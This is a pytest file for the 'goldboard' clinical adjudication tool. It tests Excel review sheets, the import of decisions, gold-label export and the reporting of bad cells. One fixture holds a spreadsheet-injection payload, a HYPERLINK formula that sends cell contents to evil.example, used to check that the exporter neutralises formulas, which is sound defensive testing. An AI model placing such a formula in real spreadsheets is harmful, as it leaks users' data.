"""Round trip of a real .xlsx: sheet -> adjudicator fills it with openpyxl -> import ->
gold export -> every gold row checked; reruns change nothing; bad cells reported by reference."""

from __future__ import annotations

import hashlib
import json
import shutil
import sys
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from goldboard.cli import main
from goldboard.fileio import write_csv_atomic, write_jsonl_atomic
from goldboard.study import Study

sys.path.insert(0, str(Path(__file__).resolve().parent))  # --import-mode=importlib: share the MTB table
from test_flags import I, MTB_PAIRS, P, S, U, mtb_table  # noqa: E402

EVIL = '=HYPERLINK("http://evil.example/x?leak="&A1,"Click for details")'
LONG = "Stage IV adenocarcinoma. " * 2000  # 50,000 characters


def sha(p: Path) -> str:
    return hashlib.sha256(p.read_bytes()).hexdigest()


@pytest.fixture()
def study(tmp_path):
    st = Study.init(tmp_path / "study", schema="mtb", raters=["onc_a", "onc_b"], url="http://127.0.0.1:8089")
    df = mtb_table()
    df["task_id"] = [str(100 + i) for i in range(len(df))]
    df["project_id"] = df["rater"].map({"onc_a": "1", "onc_b": "2"})
    write_csv_atomic(df, st.ratings_path(1))
    units = [{"item_id": f"C-{n}", "case_id": f"C-{n}", "output_id": "", "model": "",
              "case_text": f"Case {n}: NSCLC, EGFR L858R", "output_text": f"Osimertinib for case {n}"}
             for n in range(1, len(MTB_PAIRS) + 1)]
    units[0]["output_text"] = EVIL  # C-1: sufficiency_vs_optimization, on the agenda
    units[1]["case_text"] = LONG  # C-2
    units[2]["output_text"] = "@SUM(1+1)\x07 bell"  # C-3
    write_jsonl_atomic(units, st.units_path)
    return st


def run(*args):
    res = CliRunner().invoke(main, [str(a) for a in args])
    assert "Traceback" not in res.output
    return res


def rows_by_item(ws):
    head = [c.value for c in ws[1]]
    out = {}
    for row in ws.iter_rows(min_row=2):
        rec = dict(zip(head, row))
        out[rec["Item ID"].value] = rec
    return head, out


def fill(path, decisions):
    """Fill Decision/Reason/Adjudicator as an adjudicator would, with openpyxl."""
    wb = openpyxl.load_workbook(path)
    ws = wb["Disagreements"]
    _, rows = rows_by_item(ws)
    for item, (decision, reason, who) in decisions.items():
        rows[item]["Decision"].value = decision
        rows[item]["Reason"].value = reason
        rows[item]["Adjudicator"].value = who
    wb.save(path)


def test_sheet_layout_and_untrusted_text(study, tmp_path):
    out = tmp_path / "review.xlsx"
    res = run("adjudicate", "sheet", "--study", study.path, "-o", out)
    assert res.exit_code == 0, res.output
    assert "17 rows to decide" in res.output
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames[:4] == ["Summary", "Disagreements", "Agreed", "Codebook"]
    # no cell anywhere is a formula
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
    ws = wb["Disagreements"]
    head, rows = rows_by_item(ws)
    evil = rows["C-1"]["Model output"]
    assert evil.value == "'" + EVIL and evil.data_type == "s"
    assert rows["C-3"]["Model output"].value == "'@SUM(1+1)\\x07 bell"
    long = rows["C-2"]["Case summary"].value
    assert len(long) <= 32767 and long.endswith("more characters not shown]")
    assert long.startswith("Stage IV adenocarcinoma. Stage IV")
    # fill-in columns and layout
    assert head[5:8] == ["Decision", "Reason", "Adjudicator"]
    assert ws.freeze_panes == "F2"
    assert ws.auto_filter.ref.startswith("A1:")
    key_col = openpyxl.utils.get_column_letter(head.index("Key (do not edit)") + 1)
    assert ws.column_dimensions[key_col].hidden
    assert ws.page_setup.orientation == "landscape" and ws.page_setup.fitToWidth == 1
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    dvs = ws.data_validations.dataValidation
    assert len(dvs) == 1 and dvs[0].type == "list" and "F2" in str(dvs[0].sqref)
    lists = wb["_lists"]
    assert [c.value for c in lists["A"]] == ["safety_label", S, P, U, I, "unresolved"]
    # boundary colour: sufficiency rows share one fill, support_vs_reject another
    assert rows["C-1"]["Case ID"].fill.fgColor.rgb == rows["C-9"]["Case ID"].fill.fgColor.rgb
    assert rows["C-1"]["Case ID"].fill.fgColor.rgb != rows["C-10"]["Case ID"].fill.fgColor.rgb
    # link to each rater's task in Label Studio
    assert rows["C-1"]["onc_a task (Label Studio)"].hyperlink.target == "http://127.0.0.1:8089/projects/1/data?task=100"
    assert rows["C-1"]["onc_a value"].value == I and rows["C-1"]["onc_b value"].value == S
    assert wb["Agreed"].protection.sheet and not ws.protection.sheet
    assert wb["Agreed"].max_row == 1 + 8
    summary = [r for r in wb["Summary"].iter_rows(values_only=True)]
    assert ("sufficiency_vs_optimization", "safety_label", 9, 16) in [r[:4] for r in summary]
    # headline agreement from the agreement engine, as numbers with their 95% CI
    kappa = next(r for r in summary if r[0] == "safety_label" and r[1] == "Cohen's kappa")
    assert all(isinstance(x, float) for x in kappa[2:5]) and kappa[3] < kappa[2] < kappa[4]
    from goldboard.analysis.agreement import agreement

    ref = next(s for s in agreement(mtb_table(), "safety_label", schema=study.schema)["statistics"]
               if s["statistic"] == "cohen_kappa" and s["weights"] in (None, "none"))
    assert kappa[2:5] == pytest.approx((ref["value"], ref["ci_low"], ref["ci_high"]), abs=1e-12)
    code = [r[:4] for r in wb["Codebook"].iter_rows(values_only=True)]
    assert ("safety_label", "nominal", I, "A critical field is missing, so safety cannot be judged.") in code


def test_round_trip_import_export_every_row(study, tmp_path):
    sheet = tmp_path / "review.xlsx"
    ratings_sha = sha(study.ratings_path(1))
    assert run("adjudicate", "sheet", "--study", study.path, "-o", sheet).exit_code == 0
    fill(sheet, {
        "C-10": (S, None, None),  # sides with onc_a: no reason needed
        "C-1": (P, "ECOG 2: caveat, information sufficient", "dr_kim"),  # overrides both
        "C-5": ("unresolved", "await pathology review", None),
        "C-7": ("insufficient info", None, None),  # alias, case-insensitive
        "C-99": (S, None, None),  # the only rating
    })
    res = run("adjudicate", "import", "--study", study.path, sheet, "--adjudicator", "dr_lee")
    assert res.exit_code == 0, res.output
    assert "5 new decisions, 0 changed, 0 unchanged, 12 left blank" in res.output
    log = [json.loads(line) for line in study.decisions_path.read_text().splitlines()]
    assert [(e["item_id"], e["decision"], e["adjudicator"]) for e in log] == [
        ("C-10", S, "dr_lee"), ("C-1", P, "dr_kim"), ("C-5", "unresolved", "dr_lee"),
        ("C-7", I, "dr_lee"), ("C-99", S, "dr_lee")]
    assert all(e["source"] == "sheet" and e["sheet"] == "review.xlsx" and e["sheet_sha256"] == sha(sheet)
               and e["independent"] is True and e["previous_id"] is None for e in log)

    res = run("gold", "export", "--study", study.path)
    assert res.exit_code == 0, res.output
    gold = pd.read_csv(study.gold_dir / "v1" / "gold.csv", dtype=str, keep_default_na=False)
    assert list(gold.columns) == ["item_id", "case_id", "output_id", "model", "field", "gold_value", "method",
                                  "value_onc_a", "value_onc_b", "adjudicator", "independent", "reason",
                                  "decided_at", "decision_id"]
    decided = {"C-10": S, "C-1": P, "C-7": I, "C-99": S}
    assert len(gold) == len(MTB_PAIRS) + 1
    for row in gold.itertuples():
        n = int(row.item_id.split("-")[1])
        a, b = MTB_PAIRS[n - 1] if n <= len(MTB_PAIRS) else (S, "")
        b = I if b == "Insufficient Info" else b
        assert (row.value_onc_a, row.value_onc_b) == (a, b), row
        if row.item_id in decided:
            assert (row.method, row.gold_value) == ("adjudicated", decided[row.item_id]), row
            assert row.adjudicator == ("dr_kim" if row.item_id == "C-1" else "dr_lee")
            assert row.independent == "true" and row.decided_at and row.decision_id
        elif row.item_id == "C-5":
            assert (row.method, row.gold_value, row.reason) == ("unresolved", "", "await pathology review")
        elif a == b:
            assert (row.method, row.gold_value, row.adjudicator) == ("unanimous", a, ""), row
        else:
            assert (row.method, row.gold_value) == ("unresolved", ""), row
    man = json.loads((study.gold_dir / "v1" / "manifest.json").read_text())
    assert man["counts"]["safety_label"] == {"unanimous": 8, "adjudicated": 4, "unresolved": 13}
    assert man["files"]["gold.csv"]["sha256"] == sha(study.gold_dir / "v1" / "gold.csv")
    assert man["schema"] == {"name": "mtb", "version": "1.0"} and man["raters"] == ["onc_a", "onc_b"]
    assert man["sources"]["ratings"] == [{"path": "rounds/1/ratings.csv", "sha256": ratings_sha}]
    assert man["sources"]["decisions"]["entries"] == 5 and man["version"] == "v1"

    # ---- reruns change nothing
    log_before = study.decisions_path.read_bytes()
    res = run("adjudicate", "import", "--study", study.path, sheet, "--adjudicator", "dr_lee")
    assert res.exit_code == 0 and "0 new decisions, 0 changed, 5 unchanged" in res.output
    res = run("adjudicate", "import", "--study", study.path, sheet, "--adjudicator", "other", "--not-independent")
    assert res.exit_code == 0 and "0 new decisions, 0 changed, 5 unchanged" in res.output
    sheet2 = tmp_path / "review2.xlsx"  # regenerated mid-adjudication: decisions pre-filled
    assert run("adjudicate", "sheet", "--study", study.path, "-o", sheet2).exit_code == 0
    res = run("adjudicate", "import", "--study", study.path, sheet2, "--adjudicator", "someone_else")
    assert res.exit_code == 0 and "0 new decisions, 0 changed, 5 unchanged" in res.output
    assert study.decisions_path.read_bytes() == log_before
    res = run("gold", "export", "--study", study.path)
    assert res.exit_code == 0 and "Gold unchanged since v1" in res.output
    assert [p.name for p in study.gold_dir.iterdir()] == ["v1"]

    # ---- a changed decision is appended, the old one kept; a new release; diff shows it
    v1_sha = sha(study.gold_dir / "v1" / "gold.csv")
    fill(sheet, {"C-10": (U, "onc_b's reading of the trial evidence holds", None)})
    res = run("adjudicate", "import", "--study", study.path, sheet, "--adjudicator", "dr_lee", "--not-independent")
    assert res.exit_code == 0 and "0 new decisions, 1 changed, 4 unchanged" in res.output, res.output
    log = [json.loads(line) for line in study.decisions_path.read_text().splitlines()]
    assert len(log) == 6 and log[:5] == [json.loads(x) for x in log_before.decode().splitlines()]
    assert (log[5]["previous_id"], log[5]["previous_decision"], log[5]["independent"]) == (log[0]["id"], S, False)
    res = run("gold", "export", "--study", study.path, "--format", "jsonl")
    assert res.exit_code == 0 and "v2" in res.output
    assert sha(study.gold_dir / "v1" / "gold.csv") == v1_sha
    res = run("gold", "diff", "v1", "v2", "--study", study.path, "--format", "json")
    assert res.exit_code == 0, res.output
    changes = json.loads(res.output)["changes"]
    assert [(c["item_id"], c["change"], c["old_value"], c["new_value"]) for c in changes] == [("C-10", "value", S, U)]
    res = run("gold", "diff", "v1", "v2", "--study", study.path)
    assert "C-10" in res.output and "1 changed" in res.output
    # raters' ratings were never modified
    assert sha(study.ratings_path(1)) == ratings_sha


def test_bad_cells_reported_by_reference_nothing_imported(study, tmp_path):
    sheet = tmp_path / "review.xlsx"
    assert run("adjudicate", "sheet", "--study", study.path, "-o", sheet).exit_code == 0
    wb = openpyxl.load_workbook(sheet)
    ws = wb["Disagreements"]
    head, rows = rows_by_item(ws)
    rows["C-10"]["Decision"].value = "Supportd"
    rows["C-11"]["Case ID"].value = "C-12"
    rows["C-1"]["Decision"].value = P  # overrides both raters, no reason
    rows["C-2"]["Reason"].value = "=1+1"
    rows["C-2"]["Decision"].value = S
    rows["C-3"]["Decision"].value = S  # a good row: still not imported
    key = rows["C-4"]["Key (do not edit)"]
    key.value = key.value.replace("C-4", "C-44")
    ws.cell(row=ws.max_row + 1, column=6).value = S  # a row added by hand
    wb.save(sheet)
    r10, r11, r1, r2, r4 = (rows[i]["Decision"].row for i in ("C-10", "C-11", "C-1", "C-2", "C-4"))
    res = run("adjudicate", "import", "--study", study.path, sheet, "--adjudicator", "dr_lee")
    assert res.exit_code != 0
    assert f'Disagreements!F{r10}: decision "Supportd" is not a value of safety_label' in res.output
    assert f'Disagreements!B{r11}: case id "C-12" was edited' in res.output
    assert f'Disagreements!G{r1}: reason required: decision "Partially Supported" overrides every rater' in res.output
    assert f"Disagreements!G{r2}: reason is a formula" in res.output
    key_col = openpyxl.utils.get_column_letter(head.index("Key (do not edit)") + 1)
    assert f"Disagreements!{key_col}{r4}: the hidden key was edited" in res.output
    assert f"Disagreements!{key_col}{ws.max_row}: row has no key" in res.output
    assert "review.xlsx: 6 problems found; nothing imported" in res.output
    assert not study.decisions_path.exists()


def test_flag_study_cli(study, tmp_path):
    res = run("flag", "--study", study.path, "--format", "json")
    assert res.exit_code == 0, res.output
    data = json.loads(res.stdout)
    assert data["summary"]["by_boundary"]["sufficiency_vs_optimization"] == {
        "field": "safety_label", "count": 9, "of": 16, "share": 0.5625, "priority": 2,
        "explanation": study.schema.boundaries[1].explanation}
    res = run("flag", "--study", study.path, "--triggered-only", "-o", tmp_path / "agenda.txt")
    assert res.exit_code == 0 and "Wrote 17 flagged rows" in res.output
    assert "sufficiency_vs_optimization: 9 of 16" in (tmp_path / "agenda.txt").read_text()
    res = run("flag", "--study", study.path, "--round", "3")
    assert res.exit_code != 0 and "rounds/3/ratings.csv: not pulled yet" in res.output


def test_import_cli_errors_without_traceback(study, tmp_path):
    res = run("adjudicate", "import", "--study", study.path, tmp_path / "missing.xlsx", "--adjudicator", "x")
    assert res.exit_code != 0 and "file not found" in res.output
    bad = tmp_path / "not.xlsx"
    bad.write_text("hello")
    res = run("adjudicate", "import", "--study", study.path, bad, "--adjudicator", "x")
    assert res.exit_code != 0 and "cannot open as an Excel workbook" in res.output
    res = run("adjudicate", "sheet", "--study", tmp_path / "nostudy", "-o", tmp_path / "r.xlsx")
    assert res.exit_code != 0 and "not a goldboard study" in res.output
    res = run("adjudicate", "sheet", "--study", study.path, "-o", tmp_path / "r.csv")
    assert res.exit_code != 0 and ".xlsx" in res.output
    other = Study.init(tmp_path / "other", schema="medfail", raters=["r1", "r2"])
    shutil.copy(study.ratings_path(1), tmp_path / "x.csv")
    sheet = tmp_path / "review.xlsx"
    assert run("adjudicate", "sheet", "--study", study.path, "-o", sheet).exit_code == 0
    write_csv_atomic(pd.DataFrame({"round": ["1"], "item_id": ["M1"], "rater": ["r1"], "field": ["severity"],
                                   "value": ["3"]}), other.ratings_path(1))
    res = run("adjudicate", "import", "--study", other.path, sheet, "--adjudicator", "x")
    assert res.exit_code != 0 and "made for schema" in res.output
    res = run("gold", "diff", "v1", "v9", "--study", study.path)
    assert res.exit_code != 0 and "no such gold release" in res.output
